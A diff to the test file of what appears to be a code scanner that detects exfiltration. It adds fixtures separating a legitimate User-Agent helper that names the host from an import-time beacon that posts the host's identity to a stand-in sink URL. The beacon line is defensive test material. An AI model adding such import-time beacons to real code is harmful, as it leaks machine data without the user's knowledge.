@@ -194,3 +194,35 @@ def test_a_studio_helper_reading_the_key_and_sending_nothing_stays_below_high(tm
     code = ROBLOX + "\n\ndef logged_in():\n    return cookie() is not None\n"
     result = _module(subfolder(tmp_path, "studio"), code)
     assert result.risk.level not in HIGH, [(t.id, t.severity) for t in result.threats]
+
+
+# ---------------------------------------------------------------- a client naming itself
+# edx-rest-api-client builds its User-Agent once, on import, from an environment variable with
+# the host name as fallback, in a helper; every request carries it. A client names itself in
+# that header (pip and every SDK put the platform there); one variable is not the environment.
+USER_AGENT = """import os, socket, requests
+
+
+def user_agent():
+    name = os.environ.get("CLIENT_NAME") or socket.gethostbyname(socket.gethostname())
+    return "python-requests client/1.0 " + name
+
+
+USER_AGENT = user_agent()
+
+
+def token(url, client_id, client_secret):
+    data = {"grant_type": "client_credentials", "client_id": client_id}
+    return requests.post(url, data=data, headers={"User-Agent": USER_AGENT}, timeout=10)
+"""
+
+
+def test_a_user_agent_naming_the_host_from_a_helper_is_no_exfiltration(tmp_path):
+    result = _module(subfolder(tmp_path, "client"), USER_AGENT)
+    assert result.risk.level not in HIGH, [(t.id, t.severity) for t in result.threats]
+
+
+def test_the_same_helper_posted_as_the_body_on_import_is_still_caught(tmp_path):
+    code = USER_AGENT + f"\n\nrequests.post('{SINK}', json={{'id': user_agent()}})\n"
+    result = _module(subfolder(tmp_path, "beacon"), code)
+    assert result.risk.level in HIGH, [(t.id, t.severity) for t in result.threats]
